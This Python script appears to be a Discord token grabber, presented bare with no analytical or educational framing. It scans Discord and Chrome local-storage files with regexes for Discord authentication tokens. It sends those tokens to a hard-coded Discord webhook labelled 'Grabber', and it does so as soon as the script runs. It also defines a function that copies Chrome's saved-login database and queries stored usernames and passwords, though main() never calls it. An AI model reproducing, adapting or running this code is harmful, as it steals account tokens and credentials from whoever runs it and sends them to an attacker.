import os, json, base64, shutil, sqlite3, re
from urllib.request import Request, urlopen

WEBHOOK_URL = "https://discord.com/api/webhooks/1187654321098765432/xQ9vLk2mN8pR4tY7uI1oP3aS6dF0gH5jK-lZ_cV"
LOCAL = os.getenv("LOCALAPPDATA")
ROAMING = os.getenv("APPDATA")
PATHS = {
    "Discord": ROAMING + "\\discord",
    "Chrome": LOCAL + "\\Google\\Chrome\\User Data\\Default",
}


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for file_name in os.listdir(path):
        if not file_name.endswith(".log") and not file_name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{file_name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                tokens.extend(re.findall(regex, line))
    return tokens


def passwords():
    db = os.path.join(PATHS["Chrome"], "Login Data")
    shutil.copy2(db, "ld.db")
    conn = sqlite3.connect("ld.db")
    return conn.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()


def main():
    message = ""
    for platform, path in PATHS.items():
        if not os.path.exists(path):
            continue
        message += f"**{platform}**\n" + "\n".join(find_tokens(path))
    payload = json.dumps({"content": message, "username": "Grabber"})
    req = Request(WEBHOOK_URL, data=payload.encode(), headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urlopen(req)


main()
